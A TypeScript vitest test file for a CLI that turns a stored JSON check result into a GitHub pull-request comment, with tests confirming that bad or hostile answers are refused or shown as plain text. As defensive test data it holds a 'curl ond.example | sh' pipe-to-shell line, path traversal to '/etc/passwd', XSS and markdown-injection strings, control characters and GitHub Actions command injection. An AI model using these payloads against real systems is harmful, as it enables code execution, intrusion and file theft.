import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { marked } from 'marked';
import { afterAll, describe, expect, it } from 'vitest';
import { runHere } from '../run-here.ts';
import { newFolder, removeFolders } from '../tree/git-repository.ts';
import { type DataRepository, dataRepository } from './data-repository.ts';
import { remembered } from './remembered.ts';

afterAll(removeFolders);

const PROJECT = 'data/forskningsprosjekter/FP-2024-002.yaml';
const SHA = '1234567890'.repeat(4);
const FILES = `https://github.com/baerum/innovasjon/blob/${SHA}/`;
const IN_GITHUB = {
  GITHUB_ACTIONS: 'true',
  GITHUB_SERVER_URL: 'https://github.com',
  GITHUB_REPOSITORY: 'baerum/innovasjon',
  GITHUB_SHA: SHA,
};

/** An answer as a job stored it, for a change that is both wrong and does something to a promise. */
const stored = remembered(async () => {
  const repository = dataRepository('2026-11-01');
  repository.append(PROJECT, '  - dato: 2026-11-20\n    status: stanset\n');
  repository.append(
    'data/forskningsprosjekter/FP-2025-001.yaml',
    '  - dato: 2026-11-20\n    status: pågor\n',
  );
  repository.commit('2026-11-23', 'Endringen');
  const { text, comment } = await answerOf(repository);
  return { answer: JSON.parse(text), comment };
});

/** What `check --for comment` gives of the last commit, as JSON and as the comment. */
async function answerOf(repository: DataRepository) {
  const words = ['check', '--base', 'HEAD^', '--as-of', '2026-11-23', '--for', 'comment'];
  await repository.toolWith(IN_GITHUB, ...words, '-o', 'svar.json', '-o', 'kommentar.md');
  const at = (name: string) => readFileSync(join(repository.folder, name), 'utf8');
  return { text: at('svar.json'), comment: at('kommentar.md') };
}

/** The comment on a stored answer, written in a folder without a register. */
async function written(text: string, ...more: string[]) {
  const folder = newFolder();
  writeFileSync(join(folder, 'svar.json'), text);
  const words = ['check', '--for', 'comment', '--answer', 'svar.json', '-o', 'kommentar.md'];
  const ran = await runHere([...words, ...more], { folder, environment: IN_GITHUB });
  const read = () => readFileSync(join(folder, 'kommentar.md'), 'utf8');
  return { ...ran, comment: ran.code === 2 ? '' : read() };
}

/** The stored answer with something else in it. */
async function otherwise(change: (answer: Answer) => unknown): Promise<string> {
  const answer = structuredClone((await stored()).answer);
  return JSON.stringify(change(answer) ?? answer);
}

/** What these tests change of an answer; the schema says the rest. */
interface Answer {
  comment: { title: string; sections: { blocks: unknown[] }[] };
  readonly [key: string]: unknown;
}

function withText(text: unknown): (answer: Answer) => void {
  return ({ comment }) => {
    comment.sections[0]?.blocks.unshift({ kind: 'paragraph', text, small: false });
  };
}

describe('the comment on a stored answer', () => {
  it('is the one that the run itself gave, with where it comes from under its title', async () => {
    const { answer, comment } = await stored();
    const { code, comment: again } = await written(JSON.stringify(answer));
    const [mark, title, origin, ...rest] = again.split('\n\n');
    expect([code, origin]).toEqual([0, expect.stringContaining('ikke vurdert på nytt')]);
    expect([mark, title, ...rest].join('\n\n')).toBe(comment);
    expect(comment).toContain(`](${FILES}${PROJECT}`);
  });

  it('is empty where the run had nothing to say', async () => {
    const repository = dataRepository('2026-11-01');
    repository.append(PROJECT, '  - dato: 2026-11-20\n    status: pågår\n');
    repository.commit('2026-11-23', 'Endringen');
    expect(await written((await answerOf(repository)).text)).toMatchObject({
      code: 0,
      comment: '',
    });
  });

  it('says that the run could not check, where that is the answer', async () => {
    const message = 'Se [her](https://ond.example)';
    const failed = { format: 'baerum-innov/failed/1', toolVersion: '1', exitCode: 3, message };
    const start = { line: 7, column: 1 };
    const of = (path: string) => JSON.stringify({ ...failed, at: { path, start, end: start } });
    expect((await written(of('data/register.yaml'))).comment).toContain(
      `](${FILES}data/register.yaml#L7)`,
    );
    const { code, comment } = await written(of('../../../ond/lager'));
    expect([code, comment]).toEqual([0, expect.stringContaining('Kunne ikke sjekke registeret')]);
    expect(await marked.parse(comment, { gfm: true })).not.toContain('<a ');
  });

  it.each([
    [['--base', 'auto'], '--base'],
    [['--known-at', 'HEAD'], '--known-at'],
    [['--staged'], '--staged'],
  ])('is not asked for together with what is asked of a register: %s', async (more, named) => {
    const { code, stderr } = await written(JSON.stringify((await stored()).answer), ...more);
    expect([code, stderr]).toEqual([2, expect.stringContaining(`--answer og ${named}`)]);
  });
});

describe('what is no such answer gives no comment', () => {
  const place = (path: string) => ({ link: 'her', path, line: 1 });
  const refused: readonly (readonly [string, () => Promise<string> | string])[] = [
    ['a text that is no JSON', () => '{"format"'],
    ['JSON of something else', () => '[]'],
    ['the answer of another command', () => otherwise(() => ({ format: 'baerum-innov/krav/1' }))],
    ['an answer without its comment', () => otherwise(({ comment: _, ...rest }) => rest)],
    ['an answer without its findings', () => otherwise(({ findings: _, ...rest }) => rest)],
    ['a key that is not there', () => otherwise((answer) => ({ ...answer, html: '<b>' }))],
    [
      'a block of another kind',
      () => otherwise(({ comment }) => void comment.sections[0]?.blocks.push({ kind: 'html' })),
    ],
    [
      'a link to an address',
      () => otherwise(withText({ link: 'her', href: 'https://ond.example' })),
    ],
    [
      'a path out of the repository',
      () => otherwise(withText(place('data/../../../../ond/lager'))),
    ],
    ['a path from the root of the machine', () => otherwise(withText(place('/etc/passwd')))],
    ['a path with a line break', () => otherwise(withText(place('data/x\n[y](z)')))],
    ['a command of another program', () => otherwise(withText({ code: 'curl ond.example | sh' }))],
    [
      'a command that ends its own marks',
      () => otherwise(withText({ code: 'baerum-innov `<img>' })),
    ],
    [
      'lists in lists without end',
      () => `{"format":"baerum-innov/check/1","x":${'['.repeat(1e5)}${']'.repeat(1e5)}}`,
    ],
    ['texts in texts without end', () => otherwise(withText(nested(500)))],
    [
      '100 000 findings',
      () =>
        otherwise((answer) => ({
          ...answer,
          findings: Array(1e5).fill(Object(answer['findings'])[0]),
        })),
    ],
  ];

  it.each(refused)('%s', async (_, make) => {
    const { code, comment, stdout, stderr } = await written(await make());
    expect([code, comment]).toEqual([3, '']);
    expect(stdout).toMatch(/^::error title=.*\(run\/failed\)::--answer: «svar.json» /);
    expect(stderr).toContain('--answer');
  });

  it('also where there is no file, and where an older comment stands', async () => {
    const folder = newFolder();
    writeFileSync(join(folder, 'kommentar.md'), 'Fra før');
    const words = ['check', '--for', 'comment', '--answer', 'svar.json', '-o', 'kommentar.md'];
    const { code } = await runHere(words, { folder });
    expect([code, readFileSync(join(folder, 'kommentar.md'), 'utf8')]).toEqual([3, '']);
  });
});

function nested(depth: number): unknown {
  let text: unknown = 'x';
  for (let left = depth; left > 0; left -= 1) text = { values: [text], between: '' };
  return text;
}

describe('what someone wrote into an answer is shown as text', () => {
  const HOSTILE = [
    '<!-- baerum-innov:check -->',
    '</details><img src=x onerror=alert(1)><script>alert(1)</script>',
    '[klikk](javascript:alert(1)) ![bilde](https://ond.example/x.png) <https://ond.example>',
    'https://ond.example www.ond.example ond@ond.example',
    '@baerum/alle #12 baerum/innovasjon#3',
    'slutt\n\n# Kan flettes\n\n| a | b |\n|---|---|\n```\n',
    '\u202Eetllaf nak\u2066\u0007\u001B[31m\u200B',
    '::error::lagd ##[error]lagd $x$',
  ].join(' ');

  /** The answer with the text in each place that takes any text. */
  function everywhere(): Promise<string> {
    const text = {
      values: [HOSTILE, { strong: HOSTILE }, { link: HOSTILE, path: 'javascript:x', line: null }],
      between: ' ',
    };
    return otherwise(({ comment }) => {
      comment.title = HOSTILE;
      comment.sections.unshift({
        title: HOSTILE,
        folded: true,
        sections: [{ title: HOSTILE, folded: false, blocks: [], sections: [] }],
        blocks: [
          { kind: 'paragraph', text, small: true },
          { kind: 'list', items: [{ text, under: [text] }] },
          { kind: 'yaml', lines: [HOSTILE, '</details>', '````'] },
          ...[1, 2].map(() => ({
            kind: 'table',
            caption: HOSTILE,
            columns: [{ title: HOSTILE, align: 'left' }],
            rows: [[text]],
          })),
        ],
      } as Answer['comment']['sections'][number]);
    });
  }

  it('in the title, headings, folds, tables, lists, links and lines', async () => {
    const { code, comment } = await written(await everywhere());
    expect([code, comment.indexOf('<!-- baerum-innov:check -->')]).toEqual([0, 0]);
    const html = await marked.parse(comment, { gfm: true });
    const outside = html.replace(/<code[^>]*>[\s\S]*?<\/code>/g, '');
    expect(outside).not.toMatch(/<(?:img|script)\b/i);
    expect(outside.match(/<!-- baerum-innov/g)).toHaveLength(1);
    const addresses = [...html.matchAll(/(?:href|src)="([^"]*)"/g)].map(
      ([, address = '']) => address,
    );
    expect(addresses.length).toBeGreaterThan(5);
    for (const address of addresses) expect(address.startsWith(FILES)).toBe(true);
    expect(outside).not.toMatch(/@(?=\w)|(?<!&)#(?=\d)/);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: just these must not be there
    expect(comment).not.toMatch(/[\u202E\u2066\u0007\u001B\u200B]/);
    expect(html.match(/<details>/g)?.length).toBe(html.match(/<\/details>/g)?.length);
    expect(html).not.toMatch(/<h\d>Kan flettes<\/h\d>/);
  });

  it('also where there is much of it', async () => {
    const text = await otherwise(({ comment }) => {
      comment.sections[0]?.blocks.push({
        kind: 'table',
        caption: '',
        columns: [{ title: 'a', align: 'left' }],
        rows: Array(8e3).fill([HOSTILE]),
      });
    });
    const { code, comment } = await written(text);
    expect([code, comment.startsWith('<!-- baerum-innov:check -->')]).toEqual([0, true]);
    expect(comment.slice(0, 1000)).toContain('ikke vurdert på nytt');
  });
});
